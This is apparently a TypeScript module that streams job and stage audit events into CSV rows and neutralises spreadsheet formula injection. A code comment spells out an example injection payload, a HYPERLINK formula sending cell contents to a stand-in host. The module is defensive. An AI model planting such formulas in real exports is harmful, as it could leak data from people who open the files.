import type {
  AuditEvent,
  JobAcceptedEvent,
  JobFinishedEvent,
  StageEvent,
} from "@forusbots/queries";

/** One row per stage, the job's columns repeated on each; a job without stages gets one row. */
export const CSV_HEADER = [
  "job_id",
  "bot_id",
  "state",
  "accepted_at",
  "started_at",
  "finished_at",
  "error_message",
  "meta",
  "result",
  "created_by",
  "stage_name",
  "stage_status",
  "stage_started_at",
  "stage_ended_at",
  "stage_duration_ms",
  "stage_meta",
  "stage_error",
];

/**
 * The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection):
 * a bot id of `=HYPERLINK("https://evil.example?"&A1,"open")` would run when the export is
 * opened in Excel or LibreOffice, and could send the other cells away.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell that starts like a formula gets a leading `'`, which spreadsheets read as "this is
 * text" and do not show. Only text: numbers (a duration) and timestamps never start so, and JSON
 * starts with `{`. The JSON Lines export is the exact one; this is for people's spreadsheets.
 */
export const neutraliseFormula = (text: string): string =>
  FORMULA_START.test(text) ? `'${text}` : text;

/** RFC 4180: quoted when it holds a comma, quote or line break; quotes doubled. */
export function csvField(value: unknown): string {
  if (value === null || value === undefined) return "";
  const text =
    value instanceof Date
      ? value.toISOString()
      : typeof value === "object"
        ? JSON.stringify(value)
        : typeof value === "string"
          ? neutraliseFormula(value)
          : String(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

export const csvLine = (fields: readonly unknown[]) => `${fields.map(csvField).join(",")}\r\n`;

interface JobRows {
  accepted: JobAcceptedEvent;
  startedAt?: Date;
  finished?: JobFinishedEvent;
  stages: StageEvent[];
}

function rowsOf(job: JobRows): string[] {
  const state = job.finished?.state ?? (job.startedAt ? "running" : "queued");
  const jobFields = [
    job.accepted.jobId,
    job.accepted.botId,
    state,
    job.accepted.at,
    job.startedAt,
    job.finished?.at,
    job.finished?.errorMessage,
    job.accepted.meta,
    job.finished?.result,
    job.accepted.createdBy,
  ];
  if (job.stages.length === 0) return [csvLine(jobFields)];
  return job.stages.map((stage) =>
    csvLine([
      ...jobFields,
      stage.stageName,
      stage.status,
      stage.startedAt,
      stage.endedAt,
      stage.endedAt ? stage.endedAt.getTime() - stage.startedAt.getTime() : undefined,
      stage.meta,
      stage.error,
    ]),
  );
}

/**
 * The export's events regrouped into CSV lines. A job's events arrive together (accepted,
 * started, stages, finished), so only one job is held at a time.
 */
export async function* eventsAsCsv(events: AsyncIterable<AuditEvent>): AsyncGenerator<string> {
  yield csvLine(CSV_HEADER);
  let job: JobRows | undefined;
  for await (const event of events) {
    if (event.type === "job.accepted") {
      if (job) yield* rowsOf(job);
      job = { accepted: event, stages: [] };
    } else if (job && event.jobId === job.accepted.jobId) {
      if (event.type === "job.started") job.startedAt = event.at;
      else if (event.type === "stage") job.stages.push(event);
      else job.finished = event;
    }
  }
  if (job) yield* rowsOf(job);
}
